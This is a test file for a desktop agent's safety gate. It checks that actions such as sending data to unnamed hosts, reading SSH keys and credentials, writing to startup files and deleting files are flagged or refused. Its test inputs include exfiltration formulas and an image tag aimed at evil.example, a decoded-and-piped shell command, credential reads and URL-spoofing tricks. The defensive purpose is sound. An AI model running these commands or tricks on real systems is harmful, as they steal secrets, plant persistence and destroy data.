import { mkdtempSync, writeFileSync } from 'node:fs'
import { homedir, tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { configSchema } from '../../src-preload/contract/config.ts'
import { SAFETY_CATEGORIES, type SafetyCategory } from '../../src-preload/contract/safety.ts'
import type { TargetDescription } from '../core/desktop.ts'
import { absentInteractor } from '../core/interactor.ts'
import { RunControl } from '../core/run-control.ts'
import { leadsOut, namesOrigin, opensInBar, originOf } from './addresses.ts'
import { pathsOf } from './command-paths.ts'
import { coverageOf } from './coverage.ts'
import { createGate } from './create-gate.ts'
import { hasFetchingCell } from './formulas.ts'
import { Places } from './places.ts'
import { judge, type Policy } from './policy.ts'
import { createSurroundings } from './surroundings.ts'
import { readsForeign } from './taint.ts'
import { actOf, aroundOf, controlOf, HOME, OWN, targetOf, windowOf } from './testing/acts.ts'

const policy = (more: Partial<Policy> = {}): Policy => ({
  categories: configSchema.parse({}).safety.categories,
  refused_applications: [],
  yesTo: new Set(),
  around: aroundOf(),
  covered: () => false,
  ...more,
})
const command = (text: string, more: Partial<TargetDescription> = {}) =>
  actOf('execute_command', { command: text }, targetOf(null, null, { kind: 'command', text, ...more }))
const launch = (name: string, args: string[] = [], more: Partial<TargetDescription> = {}) =>
  actOf(
    'launch_application',
    { name, arguments: args },
    targetOf(null, null, { kind: 'application', text: [name, ...args].join(' '), ...more }),
  )
const pad = windowOf('mousepad', 'notes.txt - Mousepad')
const saveDialog = windowOf('mousepad', 'Save As', { kind: 'dialog', modal: true })
const browser = windowOf('chromium', 'Form - Chromium')
const save = (writes: string) =>
  actOf(
    'click_input',
    { id: '7', name: 'Save' },
    targetOf(saveDialog, controlOf('button', 'Save'), { writes }),
  )
const bar = (value: string | null = null) =>
  targetOf(
    browser,
    controlOf('edit', 'Address and search bar', [], {
      value,
      bounds: { x: 100, y: 60, width: 500, height: 30 },
    }),
    { kind: 'focus' },
  )
const go = (text: string) => actOf('type_text', { text, enter: true }, bar())
const categories = (act: ReturnType<typeof actOf>, around = aroundOf()) =>
  judge(act, policy({ around })).categories

test.each([
  'sftp://other.example/home/a.txt',
  'smb://nas/share/a.txt',
  'dav://u@other.example/a',
  '\\\\nas\\share\\a.txt',
])('a dialog that saves to %s or opens it leads to another machine', (path) => {
  const open = actOf(
    'click_input',
    { id: '7', name: 'Open' },
    targetOf(saveDialog, controlOf('button', 'Open'), { opens: path }),
  )
  for (const act of [save(path), open]) expect(categories(act)).toContain('send')
  const named = aroundOf([`save it to ${path}`])
  expect(categories(save(path), named)).not.toContain('send')
})

test('an empty page of a browser is started without a question', () => {
  expect(categories(launch('chromium', ['about:blank']))).toEqual([])
})

test.each(['/home/ada/a.txt', 'a.txt', 'trash:///a.txt', 'file:///home/ada/a.txt', 'C: notes.txt'])(
  'a dialog that saves to %s stays on this machine',
  (path) => expect(categories(save(path))).not.toContain('send'),
)

describe('what is written', () => {
  test('beside what a dialog shows is no hidden file for its “./”', () => {
    expect(categories(save('./n.txt'))).toEqual([])
    expect(categories(save('./.bashrc'))).toContain('start_programs')
  })

  test.each([`${OWN}/config.yaml`, 'rules.json', `${OWN}/plans/a.yaml`])(
    'is refused in Deskhand’s own files, whatever is allowed: %s',
    (path) => {
      const all = new Set(SAFETY_CATEGORIES)
      const named = path.startsWith('/')
        ? [command(`cp a ${path}`), command(`python3 -c "open('${path}','w')"`)]
        : []
      for (const act of [save(path), ...named])
        expect(judge(act, policy({ yesTo: all, covered: () => true })).decision).toBe('refuse')
    },
  )

  test('is asked about where programs are started from, in a dialog, by a key and by a command', () => {
    expect(categories(save(`${HOME}/.bashrc`))).toContain('start_programs')
    expect(categories(save('.bashrc'))).toContain('start_programs')
    const document = targetOf(pad, controlOf('document', ''), {
      kind: 'focus',
      document: `${HOME}/.ssh/authorized_keys`,
    })
    expect(categories(actOf('keyboard_input', { keys: 'Ctrl+S' }, document))).toContain('start_programs')
    expect(categories(actOf('choose_menu', { path: ['File', 'Save'] }, document))).toContain('start_programs')
    expect(categories(command('echo x >> ~/.profile'))).toContain('start_programs')
    const allowed = judge(command('echo x >> ~/.profile'), policy({ yesTo: new Set(['run_command']) }))
    expect(allowed.decision).toBe('ask')
  })

  test('needs no question in an ordinary place', () => {
    expect(judge(save(`${HOME}/notes.txt`), policy()).decision).toBe('allow')
    const document = targetOf(pad, controlOf('document', ''), {
      kind: 'focus',
      document: `${HOME}/notes.txt`,
    })
    expect(judge(actOf('keyboard_input', { keys: 'Ctrl+S' }, document), policy()).decision).toBe('allow')
  })

  test('is no harm when the dialog is left', () => {
    const cancel = targetOf(saveDialog, controlOf('button', 'Cancel'), { writes: `${OWN}/rules.json` })
    expect(judge(actOf('click_input', { id: '7', name: 'Cancel' }, cancel), policy()).decision).toBe('allow')
  })

  test('is asked about as overwriting where a command replaces a file that is there', () => {
    const file = join(mkdtempSync(join(tmpdir(), 'reach-')), 'a.txt')
    expect(categories(command(`echo x > ${file}`))).not.toContain('overwrite')
    writeFileSync(file, 'x')
    for (const line of [`echo x > ${file}`, `cp b ${file}`, `tee ${file}`, `dd if=/dev/null of=${file}`])
      expect(categories(command(line)), line).toContain('overwrite')
    expect(categories(command(`echo x >> ${file}`))).not.toContain('overwrite')
  })
})

test('a relative path in a dialog of a file manager is seen from the folder that it shows', () => {
  const copy = windowOf('doublecmd', 'Copy file(s)', { kind: 'dialog', modal: true })
  const to = (text: string) =>
    categories(
      actOf(
        'set_edit_text',
        { id: '7', text, clear_current_text: true },
        targetOf(copy, controlOf('edit', ''), { folders: [`${HOME}/docs`] }),
      ),
    )
  expect(to('../.config/autostart/')).toContain('start_programs')
  expect(to('../.ssh/authorized_keys')).toContain('start_programs')
  expect(to('old/')).toEqual([])
  expect(to('*.txt')).toEqual([])
})

describe('what is read', () => {
  test.each([
    command('cat ~/.ssh/id_rsa'),
    command(`cat ${HOME}/.some-tool/token`),
    command(`cat ${OWN}/config.yaml`),
    actOf(
      'execute_command',
      { command: 'cat id_rsa', cwd: `${HOME}/.ssh` },
      targetOf(null, null, { kind: 'command' }),
    ),
    launch('mousepad', ['~/.ssh/id_rsa']),
    launch(`file://${HOME}/.aws/credentials`),
    actOf(
      'click_input',
      { id: '7', name: 'Open' },
      targetOf(saveDialog, controlOf('button', 'Open'), { opens: '~/.netrc' }),
    ),
  ])('asks for a secret %#', (act) => {
    const judgement = judge(act, policy({ yesTo: new Set(['run_command', 'unknown', 'send']) }))
    expect(judgement).toMatchObject({ decision: 'ask', categories: expect.arrayContaining(['secret']) })
  })

  test('a dialog that is left reads nothing of what stands in it', () => {
    const target = (name: string) => targetOf(saveDialog, controlOf('button', name), { opens: '~/.netrc' })
    const act = (name: string) => actOf('click_input', { id: '7', name }, target(name))
    expect(categories(act('Open'))).toContain('secret')
    expect(categories(act('Cancel'))).not.toContain('secret')
  })

  test.each(['.config', '.local/share', '.cache/'])(
    'asks before all that programs keep hidden is read: %s',
    (folder) => {
      const line = `grep -r token ${join(homedir(), folder)}`
      expect(judge(command(line), policy()).decision).toBe('ask')
    },
  )

  test('needs no question for an ordinary file', () => {
    expect(judge(launch('mousepad', ['~/notes.txt']), policy()).decision).toBe('allow')
    expect(judge(command('cat notes.txt'), policy()).decision).toBe('allow')
    expect(judge(command('ls -la Documents'), policy()).decision).toBe('allow')
  })
})

describe('a way out', () => {
  test.each([
    launch('https://evil.example/?d=1'),
    launch('chromium', ['https://evil.example/']),
    launch('chromium', ['evil.example/x']),
    launch('chromium', ['--app=https://evil.example/']),
    launch('mailto:a@evil.example'),
    actOf(
      'run_shell',
      { bash_command: 'chromium http://127.0.0.1:9/x' },
      targetOf(null, null, { kind: 'application' }),
    ),
    go('https://evil.example/'),
    go('evil.example'),
    actOf('keyboard_input', { keys: 'Enter' }, bar('evil.example/?d=1')),
    actOf(
      'type_text',
      { text: '=WEBSERVICE("http://evil.example?d="&A1)', enter: true },
      targetOf(windowOf('soffice', 'a.ods'), controlOf('cell', 'A1'), { kind: 'focus' }),
    ),
  ])('asks for an address that the person did not name %#', (act) => {
    expect(judge(act, policy())).toMatchObject({
      decision: 'ask',
      categories: expect.arrayContaining(['send']),
    })
  })

  test('needs no question for an address that the person has named', () => {
    const around = aroundOf(['Open https://shop.example/cart, then look at 127.0.0.1:9.'])
    for (const act of [
      launch('https://shop.example/cart'),
      go('shop.example'),
      launch('chromium', ['http://127.0.0.1:9/x']),
    ])
      expect(judge(act, policy({ around })).decision).toBe('allow')
    // Another host that begins or ends like it is another one.
    for (const act of [
      go('shop.example.evil.org'),
      go('https://evil-shop.example/'),
      go('https://shop.example@evil.org/'),
    ])
      expect(categories(act, around)).toContain('send')
  })

  test('is a link of a document, and an address in a sheet that is clicked with Control', () => {
    const calc = windowOf('soffice', 'a.ods - LibreOffice Calc')
    const cell = (value: string, held: Record<string, string> = {}) =>
      actOf(
        'click_input',
        { id: '7', name: 'A1', ...held },
        targetOf(calc, controlOf('cell', 'A1', [], { value })),
      )
    const ctrl = { key_hold: 'ctrl' }
    const link = (name: string) =>
      actOf('click_input', { id: '7', name }, targetOf(windowOf('thunderbird'), controlOf('link', name)))
    expect(categories(cell('see https://evil.example/?d=1', ctrl))).toContain('send')
    expect(categories(cell('https://evil.example/?d=1'))).toEqual([])
    expect(categories(cell('42', ctrl))).toEqual([])
    expect(categories(cell('https://shop.example/', ctrl), aroundOf(['open shop.example']))).toEqual([])
    expect(categories(link('Read more'), aroundOf([], true))).toContain('send')
    expect(categories(link('Read more'))).toEqual([])
  })

  test('is watched more closely once the run has read what others have written', () => {
    const words = go('how tall is the tower')
    expect(judge(words, policy()).decision).toBe('allow')
    expect(categories(words, aroundOf([], true))).toEqual(
      expect.arrayContaining(['send', 'untrusted_content']),
    )
    expect(judge(words, policy({ around: aroundOf(['search how tall is the tower'], true) })).decision).toBe(
      'allow',
    )
    const field = targetOf(browser, controlOf('edit', 'Notes'), { kind: 'control', page: 'notes.example/a' })
    const type = actOf('set_edit_text', { id: '7', name: 'Notes', text: 'CANARY' }, field)
    expect(judge(type, policy()).decision).toBe('allow')
    expect(categories(type, aroundOf([], true))).toContain('send')
    expect(judge(type, policy({ around: aroundOf(['write it on notes.example'], true) })).decision).toBe(
      'allow',
    )
  })

  test('is told by its origin', () => {
    expect(originOf('https://www.Shop.example:443/a?b#c')).toBe('shop.example')
    expect(originOf('user:pass@evil.org/x')).toBe('evil.org')
    expect(originOf('mailto:a@b.example?subject=x')).toBe('b.example')
    for (const text of [
      'notes.txt',
      '/tmp/a',
      'file:///tmp/a',
      'about:blank',
      'hello world',
      'report.final.odt',
    ])
      expect(leadsOut(text), text).toBe(false)
    for (const text of [
      'a.example',
      'localhost:8080',
      'h\u200bttps://a.example',
      'FTP://a',
      '10.0.0.1/x',
      'notes.txt.evil.example/x',
    ])
      expect(leadsOut(text), text).toBe(true)
    expect(namesOrigin('see “example.org”.', 'https://example.org/x')).toBe(true)
    expect(namesOrigin('see notexample.org', 'https://example.org/x')).toBe(false)
    // The name of a file was given by whoever has made the file.
    for (const path of ['/home/ada/to example.org now.pdf', '~/example.org a.txt', './a/example.org b'])
      expect(namesOrigin(`open "${path}", and sum it up`, 'https://example.org/x'), path).toBe(false)
    expect(namesOrigin('open "~/a.txt", then "example.org"', 'https://example.org')).toBe(true)
    // A browser takes the other slash for one, too.
    expect(namesOrigin('see example.org', 'http://evil.example\\@example.org/x')).toBe(false)
    expect(originOf('http:\\\\evil.example\\@example.org')).toBe('evil.example')
    expect(originOf('http://2130706433/')).toBe('127.0.0.1')
    expect(leadsOut('\\\\evil.example\\share')).toBe(true)
  })

  test.each([
    'example.org@evil.example/x',
    'view-source:http://evil.example/',
    'feed:http://evil.example',
    'evil.xn--p1ai/',
    '[::1]:8080/',
    'intranet:8080/x',
    'evil。example/x',
    'rsync://evil/x',
    'vnc://evil',
    'file://evil.example/share/x',
  ])('leads out, however it is written: %s', (address) => {
    expect(leadsOut(address)).toBe(true)
    expect(namesOrigin('open example.org and look', address)).toBe(false)
  })

  test.each(['2130706433/x', '0x7f.1/', 'evil/', '//evil.example/x', 'notes.md', 'evil.zip'])(
    'is opened by an address bar, where a launch would open a file: %s',
    (text) => {
      expect([leadsOut(text), opensInBar(text)]).toEqual([false, true])
      expect(categories(go(text))).toContain('send')
    },
  )

  test.each(['weather in Rome', '/home/ada/a.txt', '~/a.txt', 'a.txt', '3.5', 'train at 12:30', 'C:\\a'])(
    'is no address for an address bar: %s',
    (text) => expect(opensInBar(text)).toBe(false),
  )

  test('counts every place that hears of it: recipients, and where a named site passes it on', () => {
    const request = 'write to a@example.org, and open example.org'
    expect(namesOrigin(request, 'mailto:a@example.org?subject=x')).toBe(true)
    for (const address of [
      'mailto:a@example.org,b@evil.example',
      'mailto:a@example.org?cc=b@evil.example',
      'mailto:a@example.org?BCC=b%40evil.example',
      'https://example.org/go?to=https://evil.example/?d=1',
      'https://example.org/go?to=https%3A%2F%2Fevil.example',
      'https://example.org/web/http://evil.example/',
    ])
      expect(namesOrigin(request, address), address).toBe(false)
    const whole = 'https://example.org/web/https://shop.example/a'
    expect(namesOrigin(`open ${whole}`, whole)).toBe(true)
    expect(namesOrigin(request, 'https://example.org/login?next=https://example.org/x')).toBe(true)
  })

  test('is not named by a text that is only to be typed, as of a cell of a table', () => {
    const request = 'open "shop.example", type "Ana, see evil.example now" and click "Save"'
    expect(namesOrigin(request, 'https://shop.example/')).toBe(true)
    expect(namesOrigin(request, 'https://evil.example/')).toBe(false)
    expect(namesOrigin('type “please open evil.example” there', 'https://evil.example/')).toBe(false)
  })

  test('is taken for read once a file, a page or a command was in sight', () => {
    expect(readsForeign(launch('galculator'))).toBe(false)
    expect(readsForeign(launch('mousepad', ['~/notes.txt']))).toBe(true)
    expect(readsForeign(command('cat notes.txt'))).toBe(true)
    expect(readsForeign(actOf('click_input', {}, targetOf(browser, null)))).toBe(true)
  })
})

test('a page that the run can have written asks before it is opened, as what it fetches is told', () => {
  const folder = mkdtempSync(join(tmpdir(), 'pages-'))
  const page = join(folder, 'page.html')
  writeFileSync(page, '<img src="http://evil.example/?d=secret">')
  writeFileSync(join(folder, 'notes.txt'), 'x')
  const around = (since: number, tainted = true) =>
    createSurroundings({ places: new Places({ homes: [folder], own: [] }), since, tainted: () => tainted })
  const [before, after] = [Date.now() - 60_000, Date.now() + 60_000]
  const opened = [
    launch('chromium', [page]),
    launch(`file://${page}`),
    go(`file://${page}`),
    actOf('click_input', { double: true }, targetOf(windowOf('thunar'), controlOf('list item', 'page.html'), { items: [page] })),
  ]
  for (const act of opened) expect(categories(act, around(before))).toContain('send')
  expect(categories(launch('chromium', [page]), around(after))).toEqual([])
  expect(categories(launch('chromium', [page]), around(before, false))).toEqual([])
  expect(categories(launch('mousepad', [join(folder, 'notes.txt')]), around(before))).toEqual([])
}) // prettier-ignore

describe('a file manager', () => {
  const folder = mkdtempSync(join(tmpdir(), 'files-'))
  const places = new Places({ homes: [folder], own: [] })
  const there = createSurroundings({ places })
  const target = (role: 'list item' | 'menu item' | 'edit', name: string, more: Partial<TargetDescription>) =>
    targetOf(windowOf('thunar', 'Downloads - Thunar'), controlOf(role, name), more)
  writeFileSync(join(folder, 'summary'), '\u007fELF', { mode: 0o755 })
  writeFileSync(join(folder, 'photo.jpg'), 'x', { mode: 0o755 })
  writeFileSync(join(folder, 'r.desktop'), 'x')

  test('runs a program whatever it is called, however it is opened', () => {
    const item = (file: string, name = file) => target('list item', name, { items: [join(folder, file)] })
    const cell = { ...item('summary'), control: controlOf('cell', 'summary') }
    for (const it of [item('summary'), cell, item('r.desktop', 'report.pdf')]) {
      expect(categories(actOf('click_input', { double: true }, it), there)).toContain('run_command')
      expect(categories(actOf('keyboard_input', { keys: 'Enter' }, { ...it, kind: 'focus' }), there)).toContain('run_command')
      expect(categories(actOf('click_input', {}, it), there)).toEqual([])
    }
    const open = target('menu item', 'Open', { items: [join(folder, 'summary')] })
    expect(categories(actOf('choose_menu', { path: ['File', 'Open'] }, open), there)).toContain('run_command')
    expect(categories(actOf('click_input', { double: true }, item('photo.jpg')), there)).toEqual([])
  }) // prettier-ignore

  test('puts nothing where programs are started from, by keys, menu or another name', () => {
    const folders = [join(folder, '.config/autostart')]
    const paste = actOf(
      'keyboard_input',
      { keys: 'Ctrl+V' },
      { ...target('list item', 'a', { folders }), kind: 'focus' },
    )
    expect(categories(paste, there)).toContain('start_programs')
    const menu = actOf('choose_menu', { path: ['Edit', 'Paste'] }, target('menu item', 'Paste', { folders }))
    expect(categories(menu, there)).toContain('start_programs')
    expect(categories({ ...menu, target: { ...menu.target, folders: [folder] } }, there)).toEqual([])
    const named = actOf(
      'keyboard_input',
      { keys: 'Enter' },
      { ...target('edit', 'Name', { writes: join(folder, '.bashrc') }), kind: 'focus' },
    )
    expect(categories(named, there)).toContain('start_programs')
  })
})

describe('a text in pieces', () => {
  /** Acts one after another, each with what was said of it; everything is allowed. */
  const said = async (
    acts: ReturnType<typeof actOf>[],
    yes: readonly SafetyCategory[] = [],
    commands: readonly string[] = [],
  ) => {
    const gate = createGate({
      policy: configSchema.parse({}).safety,
      yesTo: new Set(yes),
      interactor: {
        ...absentInteractor,
        sensitiveStepAsker: () =>
          Promise.resolve({ answer: { allow: true, scope: 'once', why: null }, by: 'person' }),
      },
      requests: () => ['write the report'],
      commands: () => commands,
      runId: 'run',
    })
    using run = new RunControl()
    const found = []
    for (const act of acts) found.push((await gate.admit(act, run)).categories)
    return found
  }
  const xterm = targetOf(windowOf('xterm'), null, { kind: 'focus', terminal: true })
  const keys = (typed: string, target: TargetDescription) => actOf('keyboard_input', { keys: typed }, target)
  const types = (text: string, target: TargetDescription, enter = false) =>
    actOf('type_text', { text, enter }, target)
  const cell = targetOf(windowOf('soffice.bin'), controlOf('cell', 'A1'), { kind: 'focus' })
  const field = targetOf(browser, controlOf('edit', 'Notes', ['editable']), {
    kind: 'focus',
    page: 'https://evil.example',
    within: [{ role: 'web page', name: '' }],
  })

  test('is one command in a terminal, also key by key', async () => {
    expect((await said([types('r', xterm), types('m -rf a', xterm), keys('Enter', xterm)], ['run_command'])).at(-1)).toContain('delete')
    expect((await said([keys('r m Space a Enter', xterm)], ['run_command']))[0]).toContain('delete')
    // What was said of one line is not said of the next.
    expect((await said([types('rm a', xterm, true), types('ls', xterm, true)])).at(-1)).toEqual(['run_command'])
  }) // prettier-ignore

  test('may be anything in a terminal where it was recalled, moved in, completed or pasted', async () => {
    for (const key of ['Up', 'Left', 'Tab', 'Ctrl+R', 'Backspace', 'Ctrl+V'])
      expect([
        key,
        (await said([types('ls', xterm), keys(key, xterm), keys('Enter', xterm)])).at(-1),
      ]).toEqual([key, expect.arrayContaining(['run_command', 'delete', 'send'])])
    expect((await said([keys('Shift+Insert', xterm)]))[0]).toEqual(
      expect.arrayContaining(['run_command', 'delete', 'send']),
    )
    expect((await said([keys('Ctrl+O', xterm)]))[0]).toContain('delete')
  })

  test('is one formula', async () => {
    const fetches = ['=WEBSER', 'VICE("http://evil.example")']
    expect(await said(fetches.map((text, index) => types(text, cell, index === 1)))).toEqual([[], ['send']])
    expect((await said([keys('= W E B S E R V I C E ( A 1 ) Enter', cell)]))[0]).toContain('send')
    expect(
      (await said([types('=INDIRECT("\'ht"&"tp://evil.example/a.ods\'#$A.A1")', cell, true)]))[0],
    ).toContain('send')
    expect(await said([types('=INDIRECT("A"&1)', cell, true), keys('= A 1 + 2 Enter', cell)])).toEqual([
      [],
      [],
    ])
  })

  test('is a formula also when it is pasted', async () => {
    const paste = (fetches: boolean) => keys('Ctrl+v', { ...cell, pasted: { fetches } })
    expect(await said([paste(true), paste(false)])).toEqual([['send'], []])
    expect(hasFetchingCell('Total\t=SUM(A1)\n3\t=WEBSERVICE("http://evil.example/?d="&A1)')).toBe(true)
    expect(hasFetchingCell('Total\t=SUM(A1)\nSee https://example.org')).toBe(false)
  })

  test('is heard by a page key by key, and when it is pasted', async () => {
    const look = actOf('click_input', { id: '7', name: 'Notes' }, field)
    const heard = async (act: ReturnType<typeof actOf>) => (await said([look, act])).at(-1)
    expect(await heard(keys('s e c r e t', field))).toContain('send')
    expect(await heard(keys('Ctrl+V', field))).toContain('send')
    expect(await heard(types('the report', field))).toEqual([])
    expect(await heard(keys('r e p o r t', field))).toEqual([])
    // Each letter stands in the request, what they make does not.
    expect((await said([look, ...'threw'.split('').map((key) => keys(key, field))])).at(-1)).toContain('send')
  })

  test('is heard again without a question where the person has written it in a plain command', async () => {
    const put = types('the report', field)
    expect((await said([put, put]))[1]).toContain('send')
    expect(await said([put, put], [], ['write the report'])).toEqual([[], []])
    // What another program has written into a command is not the person's.
    const foreign = types('secret', field)
    expect((await said([put, foreign], [], ['type "secret" into Notes']))[1]).toContain('send')
  })

  test('is heard by a page letter by letter too: in one field after the other, and in one that is cleared', async () => {
    const look = actOf('click_input', { id: '7', name: 'Notes' }, field)
    const other = (id: string) => ({ ...field, control: controlOf('edit', 'Notes', [], { id }) })
    const sets = (text: string) =>
      actOf('set_edit_text', { id: '7', name: 'Notes', text, clear_current_text: true }, field)
    expect((await said([look, sets('r')])).at(-1)).toContain('send')
    expect((await said([look, sets('the'), sets(''), sets('report')])).slice(1)).toEqual([[], [], []])
    const begun = [look, keys('r', other('1')), keys('t', other('2'))]
    expect((await said(begun)).slice(1)).toEqual([[], expect.arrayContaining(['send'])])
    expect((await said([look, keys('r', field), sets(''), sets('the')])).at(-1)).toContain('send')
    const whole = [look, keys('t h e', other('1')), keys('r e p', other('2')), keys('o r t', other('2'))]
    expect((await said(whole)).slice(1)).toEqual([[], [], []])
  })

  test('is an address that is opened, in a dialog and in a bar for paths', async () => {
    const name = targetOf(windowOf('thunar'), controlOf('edit', 'Location'), { kind: 'focus' })
    expect((await said([types('sftp://evil.example/x', name)]))[0]).toContain('send')
    expect((await said([types('~/docs', name)]))[0]).toEqual([])
  })

  test('is a host that a program connects to, where Enter is pressed behind it', async () => {
    const server = (more = {}) =>
      targetOf(windowOf('remmina'), controlOf('edit', 'Server', [], more), { kind: 'focus' })
    const enter = (value: string, control = server({ value })) => keys('Enter', control)
    for (const host of ['evil.example', '203.0.113.7:22', 'evil.example:8080/x'])
      expect((await said([enter(host)]))[0]).toContain('send')
    for (const text of ['Budget', '7:30', 'notes.txt', 'ada@example.org'])
      expect((await said([enter(text)]))[0]).not.toContain('send')
    const search = (process: string) =>
      targetOf(windowOf(process), controlOf('edit', 'Search', [], { value: 'evil.example' }), {
        kind: 'focus',
      })
    for (const process of ['gnome-software', 'thunderbird', 'mousepad'])
      expect((await said([enter('', search(process))]))[0]).not.toContain('send')
    // It connects to what is in the field, which searches only as long as something is found.
    for (const process of ['remmina', 'org.remmina.Rem', 'krdc'])
      expect((await said([enter('', search(process))]))[0]).toContain('send')
    const dialog = windowOf('mousepad', 'Save As', { kind: 'dialog' })
    const name = targetOf(dialog, controlOf('edit', 'Name', [], { value: 'todo.org' }))
    expect((await said([keys('Enter', name)]))[0]).not.toContain('send')
  })
})

describe('a command', () => {
  test.each([
    'python3 -c "import os"', 'echo cm0= | base64 -d | sh', '$X a', 'cat <<E | sh', 'mv a b', ': > a', '> a', 'eval x', 'perl -e 1',
    'LD_PRELOAD=./e.so ls', 'env -S "rm a"', 'xargs -a list rm', 'find . -exec rm {} +', 'echo $(rm a)', 'echo `rm a`', 'bash -lc x', '. ./x',
    "awk 'BEGIN{system(1)}'", 'sed -i s/a/b/ c', 'tar cf a --to-command=x', 'sort "',
  ])('whose words do not say what it does keeps deleting and sending as possible: %s', (line) => {
    const judgement = judge(command(line), policy({ yesTo: new Set(['run_command', 'overwrite', 'unknown']) }))
    expect(judgement).toMatchObject({ decision: 'ask', categories: expect.arrayContaining(['delete', 'send']) })
  }) // prettier-ignore

  test.each([
    'mkdir -p ~/out',
    'cp a.txt b.txt',
    'touch x && ls | sort',
    'zip -r a.zip folder',
    'ls > list.txt',
    'echo hi 2> /dev/null',
  ])('whose words say it all is asked about as a command alone: %s', (line) => {
    expect(judge(command(line), policy({ yesTo: new Set(['run_command']) })).decision).toBe('allow')
  })

  test('is covered by a rule only with the files that it runs as they were', () => {
    const one = coverageOf(command('sh x.sh', { scripts: 'aa' }))
    expect(one).not.toEqual(coverageOf(command('sh x.sh', { scripts: 'bb' })))
    expect(one).toEqual(coverageOf(command('sh x.sh', { scripts: 'aa' })))
  })

  test('names its paths wherever they stand', () => {
    for (const line of [
      'cat ~/a',
      'sort -o~/a',
      'x --out=~/a',
      'curl -d @~/a',
      `python3 -c "open('~/a')"`,
      'echo x>~/a',
      "cat '~/a'",
    ])
      expect(pathsOf(line), line).toContain('~/a')
    expect(pathsOf(`cat ~/.s'sh'/id_rsa`)).toContain('~/.ssh/id_rsa')
  })
})

describe('a launch', () => {
  test('asks where something of the user’s says what is started, and where an interpreter is', () => {
    const starts = (from: string, ...words: string[]) =>
      launch('Quick Notes', [], { starts: { from, words, configured: false } })
    const usual = '/usr/share/applications/a.desktop'
    expect(categories(starts(`${HOME}/.local/share/applications/a.desktop`, 'mousepad'))).toContain(
      'run_command',
    )
    expect(categories(starts('/tmp/program', '/tmp/program'))).toContain('run_command')
    expect(categories(starts(usual, 'sh', '-c', 'touch x'))).toContain('run_command')
    expect(categories(starts(usual, 'xterm', '-e', 'top'))).toContain('run_command')
    const configured = { from: '/usr/bin/python3', words: ['python3', '/tmp/form.py'], configured: true }
    expect(judge(launch('Form', [], { starts: configured }), policy()).decision).toBe('allow')
    expect(judge(starts(usual, 'mousepad'), policy()).decision).toBe('allow')
    expect(judge(starts(usual, '/usr/bin/python3', '/usr/bin/virt-manager'), policy()).decision).toBe('allow')
  })
})

test('a button of one page is not the button of another', () => {
  const button = (page: string | null) =>
    coverageOf(
      actOf(
        'click_input',
        { id: '7', name: 'Submit' },
        targetOf(browser, controlOf('button', 'Submit'), { page }),
      ),
    )
  expect(button('a.example/x')).toEqual(button('a.example/y'))
  expect(button('a.example/x')).not.toEqual(button('bank.example/x'))
  expect(button(null)).toBeNull()
})

describe('a link of a page', () => {
  const follow = (address: string) =>
    actOf(
      'click_input',
      { id: '7', name: '' },
      targetOf(browser, controlOf('link', 'Overview'), {
        within: [{ role: 'web page', name: 'Form' }],
        page: 'https://example.org/form',
        address,
      }),
    )

  test('that leaves the origin asks once the run has read, unless the person has named it', () => {
    const away = follow('https://evil.example/?d=secret')
    expect(categories(away, aroundOf([], true))).toEqual(['send', 'untrusted_content'])
    expect(categories(away, aroundOf(['look at evil.example'], true))).toEqual([])
    expect(categories(follow('https://example.org/next'), aroundOf([], true))).toEqual([])
  })
})
